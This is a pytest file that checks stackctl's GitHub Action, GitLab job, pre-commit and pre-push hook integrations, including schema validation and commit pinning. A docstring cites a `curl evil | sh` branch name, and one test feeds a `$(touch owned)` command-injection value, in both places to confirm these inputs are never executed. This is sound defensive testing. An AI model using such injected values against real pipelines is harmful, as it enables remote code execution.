"""The ready-made ways to run the gate: GitHub's action, GitLab's job, pre-commit and a plain Git hook.

Each runs for real where it can: the action's and the job's own scripts in bash with the variables that CI sets,
pre-commit itself on our hooks, `git push` with our hook. The files are held against the published schemas.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from importlib.resources import files
from pathlib import Path

import pytest
import yaml

from tests.cli.forks import HOST, fork, merge, repair
from tests.cli.hostile import Bench
from tests.support import ROOT, commit_files, git, write_files

PAGE = (files("stackctl.cli") / "pages" / "gate.md").read_text()
ACTION = yaml.safe_load((ROOT / "action.yml").read_text())


def block(name: str) -> str:
    """The code block of the page that is the file of that name."""
    return next(found for found in re.findall(r"```\w+\n(.*?)```", PAGE, re.DOTALL) if name in found.split("```")[0][:80])


def shell(at: Bench, *more: tuple[str, str], path: Path | None = None) -> dict[str, str]:
    """An environment in which `stackctl` is this one."""
    folder = at.folder / "bin"
    if not folder.exists():
        write_files(folder, {"stackctl": f'#!/bin/sh\nPYTHONPATH={ROOT} exec {sys.executable} -m stackctl "$@"\n'})
        (folder / "stackctl").chmod(0o755)
        for name in ("home", "tmp"):
            (at.folder / name).mkdir(exist_ok=True)
    return at.environment(PATH=f"{folder}:{os.environ['PATH']}", PRE_COMMIT_HOME=str(at.folder / "pre-commit"), **dict(more))


def run(words: list[str], at: Bench, environment: dict[str, str]) -> subprocess.CompletedProcess:
    return subprocess.run(words, cwd=at.repo, env=environment, capture_output=True, text=True, check=False, stdin=subprocess.DEVNULL)


@pytest.fixture
def at(tmp_path) -> Bench:
    return fork(tmp_path)


def check_schema(folder: Path, schema: str, text: str, name: str) -> None:
    path = folder / name
    path.write_text(text)
    words = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", f"vendor.{schema}", str(path)]
    done = subprocess.run(words, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.parametrize(("schema", "name"), [
    ("github-actions", "action.yml"), ("github-workflows", ".github/workflows/stack.yml"), ("gitlab-ci", ".gitlab-ci.yml"),
])  # fmt: skip
def test_the_published_schemas(tmp_path, schema, name):
    text = (ROOT / name).read_text() if name == "action.yml" else block(name)
    check_schema(tmp_path, schema, text, Path(name).name)


def test_no_expression_stands_in_a_script():
    """A branch named `"; curl evil | sh; "` is a value, never code."""
    for step in ACTION["runs"]["steps"]:
        assert "${{" not in step.get("run", "")
    upload = ACTION["runs"]["steps"][-1]
    assert upload["if"].startswith("always() ") and upload["uses"].startswith("github/codeql-action/upload-sarif@")


def test_what_is_used_is_pinned_by_commit():
    """A tag can be moved to other code by whoever owns it, or stole it."""
    used = re.findall(r"uses: (\S+)@(\S+)( # v\d+\.\d+\.\d+)?", (ROOT / "action.yml").read_text() + PAGE)
    assert len(used) == 4
    for name, commit, version in used:
        assert (name, commit) == ("OWNER/stackctl", "REF") or (re.fullmatch("[0-9a-f]{40}", commit) and version), name


def step(at: Bench, **inputs: str) -> tuple[subprocess.CompletedProcess, dict[str, str]]:
    """The action's gate step as a runner runs it."""
    (gate,) = [each for each in ACTION["runs"]["steps"] if each.get("id") == "gate"]
    values = dict.fromkeys(gate["env"], "") | {"STACK": ".", "REPO": "."} | inputs
    for name in ("output", "summary"):
        (at.folder / name).unlink(missing_ok=True)
    runner = {
        "RUNNER_TEMP": str(at.folder / "tmp"), "GITHUB_OUTPUT": str(at.folder / "output"), "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_STEP_SUMMARY": str(at.folder / "summary"),
    }  # fmt: skip
    script = at.folder / "script.sh"
    script.write_text(gate["run"])
    words = ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)]
    done = run(words, at, shell(at, *values.items(), *runner.items()))
    return done, dict(line.split("=", 1) for line in (at.folder / "output").read_text().splitlines())


def test_the_action_on_a_pull_request(at):
    base = git(at.repo, "rev-parse", "HEAD")
    head = merge(at)
    git(at.repo, "checkout", "--quiet", "--detach", base)  # as a runner has it: some other commit checked out
    git(at.repo, "merge", "--quiet", "--no-ff", "--no-edit", head)
    red, output = step(at, HEAD_SHA=head, BASE_SHA=base, PULL="7", ACTION_REPOSITORY="o/stackctl", ACTION_REF="v1")
    assert red.returncode == 1 and output["code"] == "1", red.stderr
    assert (output["ref"], output["sha"]) == ("refs/pull/7/head", head)  # alerts stand on what was judged
    assert red.stdout.startswith(f"::error file={HOST},line=8,title=lost 1/convert::")
    assert "| error | lost |" in (at.folder / "summary").read_text()
    (rule,) = [r for r in json.loads(Path(output["sarif"]).read_text())["runs"][0]["tool"]["driver"]["rules"] if r["id"] == "lost"]
    assert rule["helpUri"] == "https://github.com/o/stackctl/blob/v1/stackctl/census/explain/lost.md"

    git(at.repo, "checkout", "--quiet", "main")
    green, output = step(at, HEAD_SHA=repair(at), BASE_SHA=base)
    assert green.returncode == 0 and output["code"] == "0", green.stdout + green.stderr
    assert {r["level"] for r in json.loads(Path(output["sarif"]).read_text())["runs"][0]["results"]} <= {"warning"}


def test_the_action_that_cannot_judge(at):
    done, output = step(at, MERGE="$(touch owned)`touch owned`; touch owned")
    assert done.returncode == 2 and output["code"] == "2" and "ref" not in output
    assert done.stdout.startswith("::error file=stack.toml,title=not-judged::")
    assert not (at.repo / "owned").exists()


def test_the_job_of_gitlab(at):
    (script,) = yaml.safe_load(block(".gitlab-ci.yml"))["gate"]["script"]
    base = git(at.repo, "rev-parse", "HEAD")
    for expected, commit in ((0, base), (1, merge(at))):
        done = run(["bash", "-c", script], at, shell(at, ("CI_COMMIT_SHA", commit), ("CI_MERGE_REQUEST_DIFF_BASE_SHA", base)))
        assert done.returncode == expected, done.stdout + done.stderr
    assert 'failures="1"' in (at.repo / "gate.xml").read_text() and (at.repo / "gate.sarif").exists()


def test_a_plain_hook_stops_the_push(at):
    git(at.folder, "init", "--quiet", "--bare", "remote.git")
    git(at.repo, "remote", "add", "origin", str(at.folder / "remote.git"))
    hook = at.repo / ".git/hooks/pre-push"
    write_files(hook.parent, {hook.name: block(".git/hooks/pre-push")})
    hook.chmod(0o755)
    environment = shell(at)
    push = ["git", "push", "--quiet", "origin", "main"]
    assert run(push, at, environment).returncode == 0
    merge(at)
    stopped = run(push, at, environment)
    assert stopped.returncode != 0 and "lost 1/convert" in stopped.stdout + stopped.stderr
    repair(at)
    done = run(push, at, environment)
    assert done.returncode == 0, done.stdout + done.stderr
    assert git(at.folder / "remote.git", "rev-parse", "main") == git(at.repo, "rev-parse", "HEAD")
    assert run(["git", "push", "--quiet", "origin", ":main"], at, environment).returncode == 0


def test_pre_commit_runs_our_hooks(at):
    """pre-commit itself, with our hooks file; `language: python` would install this package from the network."""
    hooks = (ROOT / ".pre-commit-hooks.yaml").read_text()
    assert hooks.count("language: python\n") == 3
    shown = at.folder / "hooks"
    shown.mkdir()
    git(shown, "init", "--quiet")
    commit = commit_files(shown, {".pre-commit-hooks.yaml": hooks.replace("language: python", "language: system")}, "hooks")
    config = yaml.safe_load(block(".pre-commit-config.yaml"))
    config["repos"][0] |= {"repo": str(shown), "rev": commit}
    commit_files(at.repo, {".pre-commit-config.yaml": yaml.safe_dump(config)}, "hooks")
    words, environment = [sys.executable, "-m", "pre_commit"], shell(at)
    done = run([*words, "install"], at, environment)
    assert done.returncode == 0 and "pre-push" in done.stdout, done.stdout + done.stderr

    done = run([*words, "run", "--hook-stage", "pre-push", "--all-files"], at, environment)
    assert done.returncode == 0 and "stackctl gate" in done.stdout, done.stdout + done.stderr
    merge(at, "--no-verify")
    done = run([*words, "run", "stackctl-gate", "--hook-stage", "pre-push"], at, environment)
    assert done.returncode == 1 and "lost 1/convert" in done.stdout

    manifest = at.repo / "entries/001-worker/entry.toml"
    manifest.write_text(manifest.read_text().replace("reroute", "reruote"))
    git(at.repo, "add", "--all")
    stopped = run(["git", "-c", "user.name=A", "-c", "user.email=a@example.invalid", "commit", "-m", "x"], at, environment)
    assert stopped.returncode == 1 and "did you mean 'reroute'?" in stopped.stdout + stopped.stderr
